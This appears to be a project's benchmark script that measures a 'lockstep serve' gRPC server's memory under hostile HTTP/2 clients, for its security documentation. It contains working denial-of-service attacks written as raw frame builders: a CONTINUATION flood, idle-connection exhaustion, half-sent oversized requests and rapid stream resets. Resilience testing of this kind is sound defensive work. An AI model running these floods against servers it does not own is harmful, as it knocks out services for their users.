#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Measures how much memory hostile clients make a running `lockstep serve` use.

    tools/bench/attacks.py --server 127.0.0.1:50051 --pid $(pgrep -of 'lockstep serve')

Prints one row per attack: the bytes sent, the coordinator's memory before, at its peak and after,
and whether a new client was still served. For docs/security.md; needs no packages. Does not stop
the server.
"""
import argparse
import socket
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"
DATA, HEADERS, RST_STREAM, CONTINUATION = 0, 1, 3, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
        ">I", stream) + payload


def literal(text):
    data = text.encode()
    assert len(data) < 127
    return bytes([len(data)]) + data


def hpack(*fields):
    return b"".join(b"\0" + literal(name) + literal(value) for name, value in fields)


def call_headers(method):
    return hpack((":method", "POST"), (":scheme", "http"),
                 (":path", "/lockstep.v1.Generation/" + method), (":authority", "x"),
                 ("te", "trailers"), ("content-type", "application/grpc"))


class Connection:
    """Reads and drops all input, so that the server is never blocked."""

    def __init__(self, address, source=""):
        host, port = address.rsplit(":", 1)
        self.socket = socket.create_connection((host, int(port)), source_address=(source, 0))
        self.sent = 0
        self.received = b""
        threading.Thread(target=self.drain, daemon=True).start()

    def drain(self):
        try:
            while data := self.socket.recv(65536):
                self.received = (self.received + data)[-4096:]
        except OSError:
            pass

    def send(self, data):
        try:
            self.socket.sendall(data)
            self.sent += len(data)
            return True
        except OSError:
            return False


def memory(pid):
    with open(f"/proc/{pid}/statm", encoding="ascii") as file:
        return int(file.read().split()[1]) * 4096 / 1e6


def continuation(address):
    connection = Connection(address)
    connection.send(PREFACE + frame(HEADERS, 0, 1, call_headers("Generate")))
    part = frame(CONTINUATION, 0, 1, hpack(("a", "b")) * 3200)
    for _ in range(9000):
        if not connection.send(part):
            break
    return [connection]


def idle_connections(address):
    connections = []
    for _ in range(5000):
        connections.append(Connection(address))
        connections[-1].send(PREFACE)
    return connections


def half_requests(address):
    connections = [Connection(address) for _ in range(20)]
    for connection in connections:
        connection.send(PREFACE)
        for stream in range(1, 512, 2):
            connection.send(frame(HEADERS, END_HEADERS, stream, call_headers("Generate")) +
                            frame(DATA, 0, stream, b"\0\0\x3f\xff\xff" + bytes(1000)))
    return connections


def rapid_resets(address):
    connection = Connection(address)
    connection.send(PREFACE)
    for stream in range(1, 20000, 2):
        connection.send(frame(HEADERS, END_HEADERS, stream, call_headers("Generate")) +
                        frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
    return [connection]


def is_served(address):
    """Whether a client of another network is served: one network has at most 7/8 of connections."""
    connection = Connection(address, "127.0.0.2" if address.startswith("127.") else "")
    connection.send(PREFACE + frame(HEADERS, END_HEADERS, 1, call_headers("GetModel")) +
                    frame(DATA, END_STREAM, 1, bytes(5)))
    for _ in range(500):
        if b"f32.v1" in connection.received or b"amx.v1" in connection.received:
            return True
        time.sleep(0.01)
    return False


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--server", default="127.0.0.1:50051")
    parser.add_argument("--pid", type=int, required=True)
    parser.add_argument("--only")
    arguments = parser.parse_args()
    print("| attack | sent MB | before MB | peak MB | after MB | served |")
    print("|---|---|---|---|---|---|")
    for attack in (rapid_resets, half_requests, idle_connections, continuation):
        if arguments.only not in (None, attack.__name__):
            continue
        before = memory(arguments.pid)
        peak = [before]
        done = threading.Event()

        def watch():
            while not done.wait(0.05):
                peak[0] = max(peak[0], memory(arguments.pid))

        watcher = threading.Thread(target=watch)
        watcher.start()
        connections = attack(arguments.server)
        time.sleep(1)
        served = is_served(arguments.server)
        for connection in connections:
            connection.socket.close()
        done.set()
        watcher.join()
        time.sleep(2)
        sent = sum(connection.sent for connection in connections) / 1e6
        print(f"| {attack.__name__.replace('_', ' ')} | {sent:.0f} | {before:.0f} | "
              f"{peak[0]:.0f} | {memory(arguments.pid):.0f} | {'yes' if served else 'no'} |",
              flush=True)


if __name__ == "__main__":
    main()
